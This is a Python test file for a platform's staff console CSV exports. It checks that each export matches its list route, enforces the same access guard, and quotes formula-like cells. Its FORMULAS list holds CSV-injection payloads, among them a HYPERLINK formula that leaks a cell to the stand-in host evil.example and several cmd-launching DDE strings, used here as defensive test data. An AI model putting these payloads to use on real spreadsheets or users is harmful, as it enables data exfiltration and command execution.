"""CSV of every staff console table: each `.csv` route answers with the rows of its list
route (the same filters), under the same guard, as a download; and a cell a spreadsheet
would run as a formula is quoted (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Awaitable, Callable
from typing import Any

import pytest

from dracarys import csv_export
from dracarys.identity import Role
from tests.social.conftest import from_ip, sign_up
from tests.social.test_verification import png, submit_proof
from tests.support import AppClient, TestUser

MakeUser = Callable[..., Awaitable[TestUser]]

# (list route, its CSV route, query both get, where the list route keeps its rows)
CONSOLE_TABLES: list[tuple[str, str, dict[str, str], str | None]] = [
    ("/api/v1/kyc/reviews", "/api/v1/kyc/reviews.csv", {}, None),
    ("/api/v1/admin/users", "/api/v1/admin/users.csv", {"q": "csv.member@example.com"}, None),
    ("/api/v1/admin/mentors", "/api/v1/admin/mentors.csv", {}, None),
    ("/api/v1/admin/payouts/queue", "/api/v1/admin/payouts/queue.csv", {}, None),
    ("/api/v1/admin/disputes", "/api/v1/admin/disputes.csv", {}, None),
    ("/api/v1/admin/chargebacks", "/api/v1/admin/chargebacks.csv", {"limit": "50"}, None),
    (
        "/api/v1/points/review-queue",
        "/api/v1/points/review-queue/appeals.csv",
        {},
        "open_appeals",
    ),
    ("/api/v1/admin/alerts", "/api/v1/admin/alerts.csv", {"unacknowledged": "false"}, None),
    ("/api/v1/admin/aml/alerts", "/api/v1/admin/aml/alerts.csv", {"unacknowledged": "false"}, None),
    ("/api/v1/admin/aml/cases", "/api/v1/admin/aml/cases.csv", {"decided": "true"}, None),
    ("/api/v1/community/moderation/queue", "/api/v1/community/moderation/queue.csv", {}, None),
    ("/api/v1/chat/reports", "/api/v1/chat/reports.csv", {"status": "all"}, None),
    (
        "/api/v1/admin/points/merch/orders",
        "/api/v1/admin/points/merch/orders.csv",
        {"status": "delivered"},
        None,
    ),
    ("/api/v1/affiliates/applications", "/api/v1/affiliates/applications.csv", {}, None),
    ("/api/v1/referrals/refused", "/api/v1/referrals/refused.csv", {}, None),
    ("/api/v1/staff/drips", "/api/v1/staff/drips.csv", {}, None),
    ("/api/v1/admin/promo-codes", "/api/v1/admin/promo-codes.csv", {}, None),
    (
        "/api/v1/admin/notification-templates",
        "/api/v1/admin/notification-templates.csv",
        {"language": "sw"},
        None,
    ),
    ("/api/v1/social/proofs/queue", "/api/v1/social/proofs/queue.csv", {}, None),
]
# A table each seeded row shows up in, with one cell of it: (CSV route, query, column,
# the cell). The list/CSV comparison above then covers every other column of the row.
SEEDED_CELLS: list[tuple[str, dict[str, str], str, str]] = [
    ("/api/v1/admin/users.csv", {"q": "csv.member@example.com"}, "kyc_level", "1"),
    ("/api/v1/admin/mentors.csv", {}, "verified", "false"),
    ("/api/v1/points/review-queue/appeals.csv", {}, "message", "My streak bonus is missing"),
    ("/api/v1/affiliates/applications.csv", {}, "website", "https://csv-affiliate.example"),
    ("/api/v1/referrals/refused.csv", {}, "rule", "shared_device"),
    ("/api/v1/staff/drips.csv", {}, "enrolments.running", "0"),
    ("/api/v1/admin/promo-codes.csv", {}, "code", "CSV10"),
    ("/api/v1/admin/notification-templates.csv", {"language": "sw"}, "language", "sw"),
    ("/api/v1/social/proofs/queue.csv", {}, "profile_url", "https://www.instagram.com/csv.proof"),
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed =1+1",
]


def _flatten(value: Any, prefix: str = "") -> dict[str, Any]:
    # Mappings (an alert's details) are one JSON cell; nested structs are columns.
    if isinstance(value, dict) and not prefix.rstrip(".").endswith("details"):
        flat: dict[str, Any] = {}
        for key, inner in value.items():
            flat.update(_flatten(inner, f"{prefix}{key}."))
        return flat
    return {prefix.rstrip("."): value}


def _as_cell(value: Any) -> str:
    """What a JSON value reads as in the CSV (scalars; formulas quoted)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
        return "'" + value
    return str(value)


def _rows(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body)))


async def _seed(client: AppClient, make_user: MakeUser) -> None:
    """Rows in the tables: a member to find, a mentor to vet, appeals, an affiliate
    application, a referral refused (the referee signed up on the referrer's device), a
    promo code and a follow proof; the drip programs and notification texts are built in."""
    admin = await make_user(role=Role.ADMIN)
    await make_user(email="csv.member@example.com", kyc_level=1)
    to_vet = await make_user()
    promoted = await client.put(
        f"/api/v1/admin/users/{to_vet.id}/role", json={"role": "mentor"}, headers=admin.headers
    )
    assert promoted.status_code == 200, promoted.text
    member = await make_user()
    for message in ("Please look again at my points", "My streak bonus is missing"):
        filed = await client.post(
            "/api/v1/points/appeals", json={"message": message}, headers=member.headers
        )
        assert filed.status_code == 201, filed.text
    applied = await client.post(
        "/api/v1/affiliates/apply",
        json={
            "website": "https://csv-affiliate.example",
            "audience": "Swing traders",
            "promotion": "A weekly newsletter on risk management.",
        },
        headers=member.headers,
    )
    assert applied.status_code == 201, applied.text
    referrer = await make_user()
    shared_device = {**referrer.headers, **from_ip("198.51.100.60")}
    code = (await client.get("/api/v1/referrals/me", headers=shared_device)).json()["code"]
    await client.get(f"/r/{code}", headers=from_ip("203.0.113.60"))
    await sign_up(client, "csv.referee@example.com", ip="203.0.113.60")
    created = await client.post(
        "/api/v1/admin/promo-codes",
        json={"code": "CSV10", "kind": "percent", "percent_bps": 1000},
        headers=admin.headers,
    )
    assert created.status_code == 201, created.text
    proved = await submit_proof(
        client, member, "instagram", "https://instagram.com/csv.proof/", png()
    )
    assert proved.status_code == 201, proved.text


@pytest.mark.parametrize(("list_path", "csv_path", "query", "key"), CONSOLE_TABLES)
async def test_each_console_table_downloads_as_csv_with_the_rows_of_its_list(
    client: AppClient,
    make_user: MakeUser,
    list_path: str,
    csv_path: str,
    query: dict[str, str],
    key: str | None,
) -> None:
    await _seed(client, make_user)
    admin = await make_user(role=Role.ADMIN)

    listed = await client.get(list_path, params=query, headers=admin.headers)
    exported = await client.get(csv_path, params=query, headers=admin.headers)

    assert listed.status_code == 200, listed.text
    assert exported.status_code == 200, exported.text
    assert exported.headers["content-type"].startswith("text/csv")
    assert exported.headers["content-disposition"].startswith('attachment; filename="')
    assert exported.headers["content-disposition"].endswith('.csv"')
    items = listed.json()[key] if key else listed.json()
    rows = _rows(exported.text)
    assert len(rows) == len(items)
    header = next(csv.reader(io.StringIO(exported.text)))
    for item, row in zip(items, rows, strict=True):
        scalars = {k: v for k, v in _flatten(item).items() if not isinstance(v, list | dict)}
        expected: dict[str, str] = {}
        for name, value in scalars.items():
            # A nested struct that is null is empty in each of its columns.
            nested = [c for c in header if c.startswith(f"{name}.")]
            for column in nested if value is None and name not in header else [name]:
                expected[column] = _as_cell(value)
        assert set(expected) <= set(header), set(expected) - set(header)
        assert {k: row[k] for k in expected} == expected


async def test_the_seeded_tables_are_not_empty(client: AppClient, make_user: MakeUser) -> None:
    """The comparison above is not only of empty tables: each has its header and the
    seeded row."""
    await _seed(client, make_user)
    admin = await make_user(role=Role.ADMIN)
    for path, query, column, value in SEEDED_CELLS:
        response = await client.get(path, params=query, headers=admin.headers)
        assert response.status_code == 200, response.text
        header = next(csv.reader(io.StringIO(response.text)))
        assert column in header, (path, header)
        assert value in {row[column] for row in _rows(response.text)}, path


async def test_the_notification_texts_download_in_the_language_filtered(
    client: AppClient, make_user: MakeUser
) -> None:
    admin = await make_user(role=Role.ADMIN)
    every = _rows(
        (await client.get("/api/v1/admin/notification-templates.csv", headers=admin.headers)).text
    )
    swahili = _rows(
        (
            await client.get(
                "/api/v1/admin/notification-templates.csv",
                params={"language": "sw"},
                headers=admin.headers,
            )
        ).text
    )
    assert {row["language"] for row in every} == {"en", "sw"}
    assert swahili == [row for row in every if row["language"] == "sw"]


@pytest.mark.parametrize(("list_path", "csv_path", "query", "key"), CONSOLE_TABLES)
async def test_each_csv_route_has_the_guard_of_its_list(
    client: AppClient,
    make_user: MakeUser,
    list_path: str,
    csv_path: str,
    query: dict[str, str],
    key: str | None,
) -> None:
    callers = [
        await make_user(),
        await make_user(role=Role.MENTOR),
        await make_user(role=Role.REVIEWER),
        await make_user(role=Role.REVIEWER, two_factor=False),
        await make_user(role=Role.ADMIN),
    ]
    answers = []
    for caller in callers:
        listed = await client.get(list_path, params=query, headers=caller.headers)
        exported = await client.get(csv_path, params=query, headers=caller.headers)
        answers.append((listed.status_code, exported.status_code))
    assert all(listed == exported for listed, exported in answers), answers
    # A mentee never gets a console table.
    assert answers[0] == (403, 403)
    anonymous = await client.get(csv_path, params=query)
    assert anonymous.status_code == 401


async def test_formula_cells_are_quoted_and_numbers_are_not(
    client: AppClient, make_user: MakeUser
) -> None:
    member = await make_user()
    reviewer = await make_user(role=Role.REVIEWER)
    for message in FORMULAS:
        filed = await client.post(
            "/api/v1/points/appeals", json={"message": message}, headers=member.headers
        )
        assert filed.status_code == 201, filed.text

    exported = await client.get("/api/v1/points/review-queue/appeals.csv", headers=reviewer.headers)

    assert exported.status_code == 200, exported.text
    messages = sorted(row["message"] for row in _rows(exported.text))
    assert messages == sorted("'" + formula for formula in FORMULAS)
    assert all(not m.startswith(("=", "+", "-", "@", "\t")) for m in messages)


def test_a_cell_keeps_numbers_and_quotes_text_that_would_run() -> None:
    assert csv_export.lines([[-12, 3.5, "-12.50", "+7", "=1+1", "-1+1", "@A1", "\rx", None]]) == (
        b"-12,3.5,-12.50,+7,'=1+1,'-1+1,'@A1,\"'\rx\",\r\n"
    )
    assert csv_export.lines([[True, "plain", "a,b", 'say "hi"']]) == (
        b'true,plain,"a,b","say ""hi"""\r\n'
    )
    assert csv_export.disposition('vat "2026".csv\r\nX: y')["Content-Disposition"] == (
        'attachment; filename="vat-2026-.csv-X-y"'
    )
